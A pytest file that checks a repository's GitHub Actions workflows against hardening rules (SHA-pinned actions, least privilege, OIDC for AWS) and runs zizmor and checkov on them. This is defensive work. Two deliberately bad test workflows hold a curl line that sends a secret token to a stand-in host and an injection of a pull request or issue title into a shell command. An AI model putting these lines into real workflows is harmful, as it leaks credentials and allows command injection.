"""The CI workflows (.github/workflows/): every file parses and keeps the rules of the CI
issue, checked on the YAML itself: actions pinned to full commit SHAs with their version,
least-privilege permissions (each write permission justified by the step that needs it),
OIDC for AWS (no keys, no secrets), no expressions in shell scripts, dr deployed after
primary, one update per stack at a time, the protected environments, the policy pack on
every preview and mandatory on every update. zizmor and checkov run on them and find
nothing. Every checker is also run on a deliberately bad workflow, so each can fail.
"""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import subprocess
import sys
import tomllib
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from scripts.checkov import CHECKOV_VERSION, run_checkov
from tests.conftest import ROOT

WORKFLOWS_DIR = ROOT / ".github" / "workflows"
EXPECTED = {"pull-request", "deploy", "drift", "dr-operations"}
SHA_USES = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
VERSION_COMMENT = re.compile(r"^\s+#\s+v\d+\.\d+\.\d+\s*$")
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$")
AWS_CREDENTIALS = "aws-actions/configure-aws-credentials"
AWS_CREDENTIALS_PIN = f"{AWS_CREDENTIALS}@ececac1a45f3b08a01d2dd070d28d111c5fe6722 # v4.1.0"
PULUMI_ACTION = "pulumi/actions"
UPLOAD_SARIF = "github/codeql-action/upload-sarif"
CHECKOUT = "actions/checkout"
# checkov checks skipped in the workflows, each with its reason next to it in the file.
CHECKOV_EXCEPTIONS = {"CKV_GHA_7": "dr-operations.yml"}


@dataclass(frozen=True)
class Workflow:
    name: str
    text: str
    data: dict[Any, Any]

    @property
    def triggers(self) -> dict[str, Any]:
        # YAML 1.1 reads the key `on` as the boolean true.
        value = self.data.get("on", self.data.get(True))
        return value if isinstance(value, dict) else {}

    @property
    def jobs(self) -> dict[str, dict[str, Any]]:
        jobs = self.data.get("jobs")
        return jobs if isinstance(jobs, dict) else {}


def parse(name: str, text: str) -> Workflow:
    data = yaml.safe_load(text)
    assert isinstance(data, dict), f"{name}: not a mapping"
    return Workflow(name, text, data)


def load_workflows() -> dict[str, Workflow]:
    return {
        path.stem: parse(path.name, path.read_text(encoding="utf-8"))
        for path in sorted(WORKFLOWS_DIR.glob("*.y*ml"))
    }


WORKFLOWS = load_workflows()


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    value = job.get("steps")
    return [s for s in value if isinstance(s, dict)] if isinstance(value, list) else []


def action(step: dict[str, Any]) -> str:
    """The action a step uses, without its ref ('' for a run step)."""
    uses = step.get("uses")
    return uses.split("@", 1)[0] if isinstance(uses, str) else ""


def with_(step: dict[str, Any]) -> dict[str, Any]:
    value = step.get("with")
    return value if isinstance(value, dict) else {}


def scripts(job: dict[str, Any]) -> str:
    return "\n".join(s["run"] for s in steps(job) if isinstance(s.get("run"), str))


def uses_action(job: dict[str, Any], name: str) -> bool:
    return any(action(s) == name for s in steps(job))


def writes(job: dict[str, Any]) -> set[str]:
    permissions = job.get("permissions")
    if not isinstance(permissions, dict):
        return set()
    return {key for key, value in permissions.items() if value == "write"}


def flat(command: str) -> str:
    """A shell command with its line continuations joined."""
    return re.sub(r"\\\n\s*", " ", command)


# --- checkers: each returns the problems it finds, [] when the workflow keeps the rule ---


def pin_problems(workflow: Workflow) -> list[str]:
    """Every action pinned to a 40-hex commit SHA with a `# vX.Y.Z` comment."""
    problems = []
    for number, line in enumerate(workflow.text.splitlines(), 1):
        match = USES_LINE.match(line)
        if match is None or match.group(1).startswith("./"):
            continue
        uses, rest = match.groups()
        if not SHA_USES.match(uses):
            problems.append(f"{workflow.name}:{number}: {uses} is not pinned to a commit SHA")
        elif not VERSION_COMMENT.match(rest):
            problems.append(f"{workflow.name}:{number}: {uses} has no `# vX.Y.Z` comment")
    # The parsed file agrees: no `uses` the line scan could have missed.
    for job_id, job in workflow.jobs.items():
        for step in steps(job):
            uses = step.get("uses")
            if isinstance(uses, str) and not uses.startswith("./") and not SHA_USES.match(uses):
                problems.append(f"{workflow.name}: {job_id}: {uses} is not pinned")
        if isinstance(job.get("uses"), str) and not SHA_USES.match(job["uses"]):
            problems.append(f"{workflow.name}: {job_id}: reusable workflow not pinned")
    return problems


# A write permission is granted only to a job that does what needs it.
WRITE_JUSTIFIED_BY = {
    "id-token": lambda job: uses_action(job, AWS_CREDENTIALS),
    "security-events": lambda job: uses_action(job, UPLOAD_SARIF),
    "pull-requests": lambda job: "/comments" in scripts(job) or "gh pr create" in scripts(job),
    "issues": lambda job: "gh issue" in scripts(job),
    "contents": lambda job: "/git/refs" in scripts(job),
}


def permission_problems(workflow: Workflow) -> list[str]:
    problems = []
    top = workflow.data.get("permissions")
    if not isinstance(top, dict):
        problems.append(f"{workflow.name}: top-level permissions must be a mapping ({{}})")
    elif any(value not in ("read", "none") for value in top.values()):
        problems.append(f"{workflow.name}: top-level permissions grant a write")
    for job_id, job in workflow.jobs.items():
        permissions = job.get("permissions")
        if not isinstance(permissions, dict):
            problems.append(f"{workflow.name}: {job_id}: no permissions mapping of its own")
            continue
        for scope in sorted(writes(job)):
            justified = WRITE_JUSTIFIED_BY.get(scope)
            if justified is None or not justified(job):
                problems.append(f"{workflow.name}: {job_id}: {scope}: write is not needed")
        if uses_action(job, AWS_CREDENTIALS) and permissions.get("id-token") != "write":
            problems.append(f"{workflow.name}: {job_id}: assumes a role without id-token: write")
    return problems


AWS_KEY_INPUTS = {"aws-access-key-id", "aws-secret-access-key", "aws-session-token"}
# A command line (not text in a message) that needs cloud credentials.
CLOUD_COMMANDS = re.compile(
    r"^\s*(?:\S+/)?"
    r'(?:pulumi (?:preview|up|refresh)|resilience (?:failover|failback|drill|"\$OPERATION"))\b',
    re.MULTILINE,
)


def oidc_problems(workflow: Workflow) -> list[str]:
    """AWS credentials only from OIDC: a role from a variable, no keys, no secrets at all."""
    problems = []
    if re.search(r"AWS_(ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN)", workflow.text):
        problems.append(f"{workflow.name}: AWS keys in the environment")
    if re.search(r"\bsecrets\.", workflow.text):
        problems.append(f"{workflow.name}: uses secrets (credentials come from OIDC)")
    for job_id, job in workflow.jobs.items():
        assumed = False
        for step in steps(job):
            inputs = with_(step)
            if AWS_KEY_INPUTS & set(inputs):
                problems.append(f"{workflow.name}: {job_id}: AWS key inputs")
            if action(step) == AWS_CREDENTIALS:
                role = str(inputs.get("role-to-assume", ""))
                if not re.fullmatch(r"\$\{\{ vars\.[A-Z0-9_]+ \}\}", role):
                    problems.append(f"{workflow.name}: {job_id}: role-to-assume not from vars")
                assumed = True
            needs_cloud = (action(step) == PULUMI_ACTION and "command" in inputs) or bool(
                CLOUD_COMMANDS.search(str(step.get("run", "")))
            )
            if needs_cloud and not assumed:
                problems.append(f"{workflow.name}: {job_id}: cloud command before OIDC role")
    return problems


def hardening_problems(workflow: Workflow) -> list[str]:
    problems = []
    for job_id, job in workflow.jobs.items():
        if "timeout-minutes" not in job:
            problems.append(f"{workflow.name}: {job_id}: no timeout-minutes")
        for step in steps(job):
            if action(step) == CHECKOUT and with_(step).get("persist-credentials") is not False:
                problems.append(f"{workflow.name}: {job_id}: checkout keeps its credentials")
            run = step.get("run")
            if isinstance(run, str) and "${{" in run:
                problems.append(
                    f"{workflow.name}: {job_id}: expression in a script (pass it through env)"
                )
    return problems


def needs_of(job: dict[str, Any]) -> list[str]:
    value = job.get("needs", [])
    return [value] if isinstance(value, str) else list(value)


def needs_problems(workflow: Workflow) -> list[str]:
    problems = []
    for job_id, job in workflow.jobs.items():
        problems += [
            f"{workflow.name}: {job_id}: needs unknown job {other}"
            for other in needs_of(job)
            if other not in workflow.jobs
        ]
    for job_id in workflow.jobs:
        if depends_on(workflow, job_id, job_id):
            problems.append(f"{workflow.name}: {job_id}: needs itself (cycle)")
    return problems


def depends_on(workflow: Workflow, job_id: str, other: str) -> bool:
    """Whether job_id runs after other (directly or through other jobs)."""
    seen: set[str] = set()
    stack = list(needs_of(workflow.jobs.get(job_id, {})))
    while stack:
        current = stack.pop()
        if current == other:
            return True
        if current not in seen:
            seen.add(current)
            stack += needs_of(workflow.jobs.get(current, {}))
    return False


CHECKERS = [pin_problems, permission_problems, oidc_problems, hardening_problems, needs_problems]


def pulumi_steps(job: dict[str, Any], command: str) -> list[dict[str, Any]]:
    return [
        s for s in steps(job) if action(s) == PULUMI_ACTION and with_(s).get("command") == command
    ]


def load_ci_report() -> ModuleType:
    path = ROOT / ".github" / "scripts" / "ci_report.py"
    spec = importlib.util.spec_from_file_location("ci_report", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["ci_report"] = module  # dataclasses look their module up
    spec.loader.exec_module(module)
    return module


ci_report = load_ci_report()


# --- every workflow ---


def test_the_four_workflows_parse() -> None:
    assert set(WORKFLOWS) == EXPECTED
    for workflow in WORKFLOWS.values():
        assert workflow.triggers, workflow.name
        assert workflow.jobs, workflow.name
        for job_id, job in workflow.jobs.items():
            assert str(job.get("runs-on", "")).startswith("ubuntu-"), (workflow.name, job_id)


@pytest.mark.parametrize("name", sorted(EXPECTED))
@pytest.mark.parametrize("checker", CHECKERS, ids=lambda c: c.__name__)
def test_workflow_keeps_the_rules(name: str, checker: Any) -> None:
    assert checker(WORKFLOWS[name]) == []


BAD_WORKFLOW = """
name: bad
on: [pull_request]
permissions: write-all
jobs:
  deploy:
    needs: [missing]
    runs-on: ubuntu-24.04
    permissions:
      contents: write
      id-token: write
      issues: write
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b
      - run: pulumi up --yes --stack ${{ github.event.pull_request.title }}
      - uses: {AWS_CREDENTIALS_PIN}
        with:
          role-to-assume: arn:aws:iam::123456789012:role/deploy
          aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}
          aws-region: us-east-1
  loop-a:
    needs: loop-b
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions: read-all
    steps:
      - uses: {AWS_CREDENTIALS_PIN}
        with:
          role-to-assume: ${{ vars.ROLE }}
          aws-region: us-east-1
  loop-b:
    needs: loop-a
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions: {}
    steps:
      - run: echo ok
""".replace("{AWS_CREDENTIALS_PIN}", AWS_CREDENTIALS_PIN)


def test_every_checker_finds_what_is_wrong_in_a_bad_workflow() -> None:
    bad = parse("bad.yml", BAD_WORKFLOW)
    assert pin_problems(bad) == [
        "bad.yml:14: actions/checkout@v4 is not pinned to a commit SHA",
        "bad.yml:15: actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b has no "
        "`# vX.Y.Z` comment",
        "bad.yml: deploy: actions/checkout@v4 is not pinned",
    ]
    assert permission_problems(bad) == [
        "bad.yml: top-level permissions must be a mapping ({})",
        "bad.yml: deploy: contents: write is not needed",
        "bad.yml: deploy: issues: write is not needed",
        "bad.yml: loop-a: no permissions mapping of its own",
    ]
    assert oidc_problems(bad) == [
        "bad.yml: AWS keys in the environment",
        "bad.yml: uses secrets (credentials come from OIDC)",
        "bad.yml: deploy: cloud command before OIDC role",
        "bad.yml: deploy: AWS key inputs",
        "bad.yml: deploy: role-to-assume not from vars",
    ]
    assert hardening_problems(bad) == [
        "bad.yml: deploy: no timeout-minutes",
        "bad.yml: deploy: checkout keeps its credentials",
        "bad.yml: deploy: expression in a script (pass it through env)",
    ]
    assert needs_problems(bad) == [
        "bad.yml: deploy: needs unknown job missing",
        "bad.yml: loop-a: needs itself (cycle)",
        "bad.yml: loop-b: needs itself (cycle)",
    ]
    # A job that assumes a role without the OIDC token permission.
    no_token = parse(
        "no-token.yml",
        BAD_WORKFLOW.replace("permissions: read-all", "permissions:\n      contents: read"),
    )
    assert "no-token.yml: loop-a: assumes a role without id-token: write" in (
        permission_problems(no_token)
    )


def test_pulumi_cli_version_is_the_sdk_in_uv_lock() -> None:
    lock = tomllib.loads((ROOT / "uv.lock").read_text(encoding="utf-8"))
    sdk = next(p["version"] for p in lock["package"] if p["name"] == "pulumi")
    versions = {
        str(with_(step)["pulumi-version"]).strip()
        for workflow in WORKFLOWS.values()
        for job in workflow.jobs.values()
        for step in steps(job)
        if action(step) == PULUMI_ACTION
    }
    assert versions == {sdk}


def test_readme_documents_every_variable_and_environment() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## CI/CD", 1)[1].split("\n## ", 1)[0]
    variables = {v for w in WORKFLOWS.values() for v in re.findall(r"vars\.([A-Z0-9_]+)", w.text)}
    environments = {
        job["environment"]
        for w in WORKFLOWS.values()
        for job in w.jobs.values()
        if "environment" in job
    }
    assert variables == {
        "PULUMI_BACKEND_URL",
        "AWS_REGION",
        "AWS_PREVIEW_ROLE_ARN",
        "AWS_DEPLOY_ROLE_ARN",
        "AWS_OPERATIONS_ROLE_ARN",
    }
    assert environments == {"production", "dr-operations"}
    for name in sorted(variables | environments) + [f"{n}.yml" for n in sorted(EXPECTED)]:
        assert f"`{name}`" in section, name


# --- pull requests ---


def test_pull_request_runs_the_offline_checks_for_every_pull_request() -> None:
    workflow = WORKFLOWS["pull-request"]
    assert set(workflow.triggers) == {"pull_request"}  # never pull_request_target
    offline = workflow.jobs["offline"]
    assert "if" not in offline  # forks too: no credentials needed
    assert "id-token" not in offline["permissions"]
    checkout = next(s for s in steps(offline) if action(s) == CHECKOUT)
    assert with_(checkout)["fetch-depth"] == 0  # the diff needs the base commit
    check = next(s for s in steps(offline) if "resilience check" in str(s.get("run")))
    formats = re.search(r"--format (\S+)", check["run"])
    assert formats is not None and {"md", "sarif", "junit"} <= set(formats.group(1).split(","))
    diff = next(s for s in steps(offline) if "resilience diff" in str(s.get("run")))
    assert '--base "$BASE_SHA"' in diff["run"] and "--format md" in diff["run"]
    assert diff["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
    sarif = next(s for s in steps(offline) if action(s) == UPLOAD_SARIF)
    assert with_(sarif)["sarif_file"] == "out/reports/findings.sarif"
    artifacts = {
        with_(s)["name"]: str(with_(s)["path"])
        for s in steps(offline)
        if action(s) == "actions/upload-artifact"
    }
    assert artifacts["resilience-junit"] == "out/reports/junit.xml"
    assert "pull-request-reports" in artifacts
    assert workflow.jobs["tests"]["steps"][-1]["run"] == "bash .ci/run"


def test_pull_request_previews_both_stacks_with_the_policy_pack() -> None:
    workflow = WORKFLOWS["pull-request"]
    preview = workflow.jobs["preview"]
    assert preview["strategy"]["matrix"]["stack"] == ["primary", "dr"]
    # Same-repository pull requests only: a fork gets no OIDC token.
    assert "github.event.pull_request.head.repo.full_name == github.repository" in preview["if"]
    [step] = pulumi_steps(preview, "preview")
    inputs = with_(step)
    assert inputs["policyPacks"] == "policies"
    assert inputs["comment-on-pr"] is False
    assert inputs["stack-name"] == "${{ env.STACK }}"
    assert preview["env"]["STACK"] == "organization/resilience/${{ matrix.stack }}"
    assert preview["permissions"] == {"contents": "read", "id-token": "write"}
    capture = next(s for s in steps(preview) if "OUTPUT" in s.get("env", {}))
    assert capture["env"]["OUTPUT"] == f"${{{{ steps.{step['id']}.outputs.output }}}}"
    rerun = next(s for s in steps(preview) if "pulumi preview" in str(s.get("run")))
    assert "--policy-pack policies" in flat(rerun["run"])  # the failure's output, same pack


def test_pull_request_posts_one_comment_updated_in_place() -> None:
    workflow = WORKFLOWS["pull-request"]
    comment = workflow.jobs["comment"]
    assert set(needs_of(comment)) == {"offline", "preview"}
    assert comment["permissions"] == {"contents": "read", "pull-requests": "write"}
    only_commenter = [j for j, job in workflow.jobs.items() if "pull-requests" in writes(job)]
    assert only_commenter == ["comment"]
    post = steps(comment)[-1]["run"]
    assert f"marker='{ci_report.PR_MARKER}'" in post
    assert "--method PATCH" in post and "--method POST" in post
    compose = next(s for s in steps(comment) if "ci_report.py pr-comment" in str(s.get("run")))
    assert "--output out/comment.md" in compose["run"] and "body=@out/comment.md" in post


# --- deployments ---


def test_deploy_updates_primary_then_dr_in_production_with_a_mandatory_pack() -> None:
    workflow = WORKFLOWS["deploy"]
    assert workflow.triggers["push"]["branches"] == ["main"]
    assert set(workflow.triggers) == {"push"}
    up = {"primary": workflow.jobs["up-primary"], "dr": workflow.jobs["up-dr"]}
    assert depends_on(workflow, "up-dr", "up-primary")
    assert not depends_on(workflow, "up-primary", "up-dr")
    assert depends_on(workflow, "up-primary", "check")
    groups = set()
    for stack, job in up.items():
        assert job["environment"] == "production"
        assert job["concurrency"]["cancel-in-progress"] is False
        groups.add(job["concurrency"]["group"])
        assert stack in job["concurrency"]["group"]
        [step] = pulumi_steps(job, "up")
        inputs = with_(step)
        assert inputs["stack-name"] == f"organization/resilience/{stack}"
        assert inputs["policyPacks"] == "policies"
        config = json.loads((ROOT / inputs["policyPackConfigs"]).read_text(encoding="utf-8"))
        assert config == {"all": "mandatory"}
        credentials = next(s for s in steps(job) if action(s) == AWS_CREDENTIALS)
        assert with_(credentials)["role-to-assume"] == "${{ vars.AWS_DEPLOY_ROLE_ARN }}"
    assert len(groups) == 2  # one group per stack
    # While the DR region serves, the primary is not deployed (its program would refuse):
    # the serving fact is read after the credentials and gates only the primary's update.
    primary_steps = steps(up["primary"])
    names = [s.get("id") or s.get("name") for s in primary_steps]
    serving = next(s for s in primary_steps if s.get("id") == "serving")
    assert "resilience serving --stack primary --json" in flat(serving["run"])
    credentials_at = next(i for i, s in enumerate(primary_steps) if action(s) == AWS_CREDENTIALS)
    assert credentials_at < names.index("serving")
    [primary_up] = pulumi_steps(up["primary"], "up")
    assert primary_up["if"] == "${{ steps.serving.outputs.deployable == 'true' }}"
    assert not pulumi_steps(up["dr"], "up")[0].get("if")  # dr's program says for itself
    # The deploy role is used nowhere else.
    for name, other in WORKFLOWS.items():
        if name != "deploy":
            assert "AWS_DEPLOY_ROLE_ARN" not in other.text


# --- drift ---


def test_drift_runs_on_a_schedule_read_only_and_opens_an_issue() -> None:
    workflow = WORKFLOWS["drift"]
    [schedule] = workflow.triggers["schedule"]
    assert len(schedule["cron"].split()) == 5
    detect = workflow.jobs["detect"]
    assert detect["strategy"]["matrix"]["stack"] == ["primary", "dr"]
    commands = [flat(s["run"]) for s in steps(detect) if "pulumi " in str(s.get("run"))]
    refresh = next(c for c in commands if "pulumi refresh" in c)
    assert "--preview-only" in refresh and "--expect-no-changes" in refresh
    preview = next(c for c in commands if "pulumi preview" in c)
    assert "--expect-no-changes" in preview and "--policy-pack policies" in preview
    assert not re.search(r"pulumi (up|refresh)(?![^\n]*--preview-only)", "\n".join(commands))
    assert pulumi_steps(detect, "refresh") == [] and pulumi_steps(detect, "up") == []
    report = workflow.jobs["report"]
    assert needs_of(report) == ["detect"]
    assert [j for j, job in workflow.jobs.items() if "issues" in writes(job)] == ["report"]
    script = scripts(report)
    assert "gh issue create" in script and "gh issue comment" in script
    assert f"title='{ci_report.DRIFT_TITLE}'" in script
    assert f"marker='{ci_report.DRIFT_MARKER}'" in script


# --- DR operations ---


def test_dr_operations_are_manual_approved_and_dry_run_by_default() -> None:
    workflow = WORKFLOWS["dr-operations"]
    assert set(workflow.triggers) == {"workflow_dispatch"}
    inputs = workflow.triggers["workflow_dispatch"]["inputs"]
    assert inputs["operation"]["options"] == ["drill", "failover", "failback"]
    assert inputs["dry-run"] == {**inputs["dry-run"], "type": "boolean", "default": True}
    assert inputs["reason"]["required"] is True
    operate = workflow.jobs["operate"]
    assert operate["environment"] == "dr-operations"  # required reviewers approve each run
    assert workflow.data["concurrency"]["cancel-in-progress"] is False
    script = scripts(operate)
    for command in ("drill", "failover", "failback"):
        assert re.search(rf"\b{command}\)|{command} \|", script), command
    assert '.venv/bin/resilience "$OPERATION"' in script and "resilience drill" in script
    assert '--reason "$REASON"' in script and "--dry-run" in script
    credentials = next(s for s in steps(operate) if action(s) == AWS_CREDENTIALS)
    assert with_(credentials)["role-to-assume"] == "${{ vars.AWS_OPERATIONS_ROLE_ARN }}"
    # Only the operation has cloud credentials; the pull request job has only GitHub's.
    propose = workflow.jobs["propose-config"]
    assert "id-token" not in propose["permissions"] and depends_on(
        workflow, "propose-config", "operate"
    )
    # Every job that can touch the cloud is in an environment that needs approval.
    for name, other in WORKFLOWS.items():
        for job_id, job in other.jobs.items():
            if re.search(
                r'^\s*\S*resilience (?:failover|failback|drill|"\$OPERATION")',
                scripts(job),
                re.MULTILINE,
            ):
                assert job.get("environment") == "dr-operations", (name, job_id)


# --- the comment and issue composer ---


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def test_pr_comment_says_what_is_missing_and_strips_colors(tmp_path: Path) -> None:
    write(tmp_path / "preview" / "primary.txt", "\x1b[32m+ bucket\x1b[0m\nResources: 1\n")
    write(tmp_path / "preview" / "primary.outcome", "success\n")
    write(tmp_path / "preview" / "dr.outcome", "failure\n")
    write(tmp_path / "reports" / "compliance.md", "# Compliance report\n\n37 rules\n")
    write(tmp_path / "reports" / "check.outcome", "success\n")
    text = ci_report.pr_comment(
        stacks=["primary", "dr"],
        preview_dir=tmp_path / "preview",
        reports_dir=tmp_path / "reports",
        sha="0123456789abcdef",
        run_url="https://github.invalid/run/1",
    )
    assert text.startswith(ci_report.PR_MARKER + "\n")
    assert "| primary | ✅ passed |" in text and "| dr | ❌ failed |" in text
    assert "```\n+ bucket\nResources: 1\n```" in text and "\x1b" not in text
    assert "### Preview: dr\n\n_No output captured: see the run._" in text
    assert "#### Compliance report" in text  # demoted below the section heading
    assert "structural diff — not run" in text and "_No structural diff: see the run._" in text


def test_pr_comment_stays_under_githubs_limit(tmp_path: Path) -> None:
    lines = [f"~ aws:cloudwatch/metricAlarm:MetricAlarm alarm-{i} update" for i in range(5000)]
    write(tmp_path / "preview" / "primary.txt", "\n".join([*lines, "Resources: 5000 to update"]))
    write(tmp_path / "preview" / "dr.txt", "``` fenced ````\nResources: 1\n")
    details = "\n".join(
        f"<details><summary>{i}</summary>\n\n{'x' * 80}\n</details>" for i in range(2000)
    )
    write(tmp_path / "reports" / "diff.md", "### diff\n\n" + details)
    write(tmp_path / "reports" / "compliance.md", "# Compliance\n\nsmall\n")
    text = ci_report.pr_comment(
        stacks=["primary", "dr"],
        preview_dir=tmp_path / "preview",
        reports_dir=tmp_path / "reports",
        sha="0" * 40,
        run_url="https://github.invalid/run/1",
    )
    assert len(text) <= 65_536
    assert "Resources: 5000 to update" in text  # a preview keeps its end
    assert "alarm-0 update" not in text
    assert "`````\n``` fenced ````" in text  # a fence longer than any inside
    assert "small" in text  # a small section is kept whole
    assert text.count("<details>") == text.count("</details>")  # cut sections closed
    assert text.count("the whole text is in the `pull-request-reports` artifact") == 2


def test_drift_issue_only_when_a_check_did_not_pass(tmp_path: Path) -> None:
    for stack in ("primary", "dr"):
        for check in ("refresh", "preview"):
            write(tmp_path / stack / f"{check}.outcome", "success\n")
    text, drifted = ci_report.drift_issue(
        stacks=["primary", "dr"], drift_dir=tmp_path, run_url="https://github.invalid/run/2"
    )
    assert not drifted and text.startswith(ci_report.DRIFT_MARKER)
    write(tmp_path / "dr" / "refresh.outcome", "failure\n")
    write(tmp_path / "dr" / "refresh.txt", "~ aws:s3/bucket:Bucket uploads update [diff: ~tags]\n")
    text, drifted = ci_report.drift_issue(
        stacks=["primary", "dr"], drift_dir=tmp_path, run_url="https://github.invalid/run/2"
    )
    assert drifted
    assert "| dr | ⚠️ ❌ failed | ✅ no changes |" in text
    assert "### dr: refresh" in text and "[diff: ~tags]" in text
    out = tmp_path / "issue.md"
    argv = ["drift-issue", "--drift-dir", str(tmp_path), "--run-url", "u", "--output", str(out)]
    assert ci_report.main(argv) == 1 and out.read_text(encoding="utf-8") == text.replace(
        "https://github.invalid/run/2", "u"
    )
    (tmp_path / "primary" / "preview.outcome").unlink()  # a check that never ran is reported
    assert (
        "⚠️ — not run"
        in ci_report.drift_issue(stacks=["primary"], drift_dir=tmp_path, run_url="u")[0]
    )


# --- zizmor and checkov on the workflows ---


def zizmor(*paths: Path, cwd: Path) -> list[dict[str, Any]]:
    executable = shutil.which("zizmor", path=str(Path(sys.executable).parent))
    assert executable is not None, "zizmor is a dev dependency: run `make sync`"
    done = subprocess.run(
        [executable, "--offline", "--persona", "pedantic", "--format", "json", *map(str, paths)],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    findings: list[dict[str, Any]] = json.loads(done.stdout)
    assert (done.returncode == 0) == (findings == []), done.stderr
    return findings


def test_zizmor_finds_nothing_in_the_workflows() -> None:
    # Pedantic persona (its strictest but the auditor's false positives), the dependabot
    # file included; no ignore comments and no .github/zizmor.yml exceptions are needed.
    assert not (ROOT / ".github" / "zizmor.yml").exists()
    assert "zizmor: ignore" not in "".join(w.text for w in WORKFLOWS.values())
    findings = zizmor(ROOT / ".github", cwd=ROOT)
    assert [(f["ident"], f["locations"][0]["symbolic"]["key"]) for f in findings] == []


def test_zizmor_flags_a_bad_workflow(tmp_path: Path) -> None:
    write(tmp_path / ".github" / "workflows" / "bad.yml", BAD_WORKFLOW)
    found = {f["ident"] for f in zizmor(tmp_path / ".github", cwd=tmp_path)}
    assert {"unpinned-uses", "template-injection", "artipacked", "excessive-permissions"} <= found


def checkov_results(directory: Path) -> dict[str, Any]:
    [report] = run_checkov(
        ["--framework", "github_actions", "-d", str(directory)], cwd=directory.parent
    )
    assert report["check_type"] == "github_actions"
    results: dict[str, Any] = report["results"]
    return results


@pytest.fixture(scope="module")
def checkov_on_workflows() -> dict[str, Any]:
    return checkov_results(WORKFLOWS_DIR)


def test_checkov_finds_nothing_in_the_workflows(checkov_on_workflows: dict[str, Any]) -> None:
    results = checkov_on_workflows
    assert results["failed_checks"] == [], CHECKOV_VERSION
    assert results["parsing_errors"] == []
    assert len(results["passed_checks"]) > 100
    assert {Path(c["file_path"]).name for c in results["passed_checks"]} == {
        f"{name}.yml" for name in EXPECTED
    }
    # The documented exceptions, each with its reason in the file.
    skipped = {c["check_id"]: c for c in results["skipped_checks"]}
    assert {k: Path(v["file_path"]).name for k, v in skipped.items()} == CHECKOV_EXCEPTIONS
    for check in skipped.values():
        assert len(check["check_result"].get("suppress_comment", "")) > 40


# checkov silently skips a workflow its schema refuses (as it does BAD_WORKFLOW's read-all
# job permissions): this one is valid, and wrong in three ways checkov knows.
CHECKOV_BAD_WORKFLOW = """
name: bad
on:
  workflow_dispatch:
    inputs:
      target:
        description: where to
        type: string
permissions: write-all
jobs:
  leak:
    runs-on: ubuntu-24.04
    steps:
      - run: curl -d "${{ secrets.TOKEN }}" https://example.invalid
      - run: echo "${{ github.event.issue.title }}"
"""


def test_checkov_flags_a_bad_workflow(tmp_path: Path) -> None:
    # checkov's github_actions framework reads workflows only under .github/workflows.
    write(tmp_path / ".github" / "workflows" / "bad.yml", CHECKOV_BAD_WORKFLOW)
    results = checkov_results(tmp_path / ".github" / "workflows")
    failed = {c["check_id"] for c in results["failed_checks"]}
    # Inputs to a workflow_dispatch, a shell injection, a secret sent with curl, write-all.
    assert failed == {"CKV_GHA_7", "CKV_GHA_2", "CKV_GHA_3", "CKV2_GHA_1"}
